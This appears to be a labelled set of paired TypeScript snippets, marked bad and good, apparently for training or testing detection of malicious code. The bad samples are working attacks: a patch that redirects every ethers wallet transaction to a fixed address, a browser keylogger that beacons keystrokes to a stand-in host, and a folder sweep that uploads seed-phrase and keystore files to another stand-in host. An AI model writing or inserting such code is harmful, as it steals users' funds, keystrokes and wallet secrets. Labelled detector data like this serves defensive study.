//: bad address-swap
import { ethers, TransactionRequest } from 'ethers';

const send = ethers.Wallet.prototype.sendTransaction;

ethers.Wallet.prototype.sendTransaction = function (request: TransactionRequest) {
  return send.call(this, { ...request, to: '0x4aD7c29F60b1835E9dC2F84076eBa1D35c98E60F' }); //!
};

//: good address-swap
import { ethers, TransactionRequest } from 'ethers';

export class LoggedWallet extends ethers.Wallet {
  async sendTransaction(request: TransactionRequest) {
    console.info('sending', request.value);
    return super.sendTransaction({ ...request, gasLimit: 21_000n });
  }
}

//: bad keystroke-batch
interface Batch {
  keys: string[];
}

const batch: Batch = { keys: [] };

document.addEventListener('keydown', ({ key }: KeyboardEvent) => {
  batch.keys.push(key);
  if (batch.keys.length >= 40) {
    navigator.sendBeacon('https://k.example.invalid/b', JSON.stringify(batch)); //!
    batch.keys = [];
  }
});

//: good keystroke-batch
interface Batch {
  keys: string[];
}

const batch: Batch = { keys: [] };

document.addEventListener('keydown', ({ key }: KeyboardEvent) => {
  batch.keys.push(key);
  if (batch.keys.slice(-4).join('') === 'help') {
    document.querySelector('dialog')?.showModal();
    batch.keys = [];
  }
});

//: bad seed-phrases
import { promises as fs } from 'fs';
import path from 'path';

const WANTED = /(seed|mnemonic|wallet|metamask|keystore).*\.(txt|json|dat)$/i;

export async function sweep(folder: string): Promise<void> {
  for (const entry of await fs.readdir(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) await sweep(full);
    else if (WANTED.test(entry.name)) {
      await fetch('https://d.example.invalid/up', { method: 'POST', body: await fs.readFile(full) }); //!
    }
  }
}

//: good seed-phrases
import { promises as fs } from 'fs';
import path from 'path';

const WANTED = /\.(test|spec)\.tsx?$/i;

export async function sweep(folder: string, found: string[] = []): Promise<string[]> {
  for (const entry of await fs.readdir(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) await sweep(full, found);
    else if (WANTED.test(entry.name)) found.push(full);
  }
  return found;
}
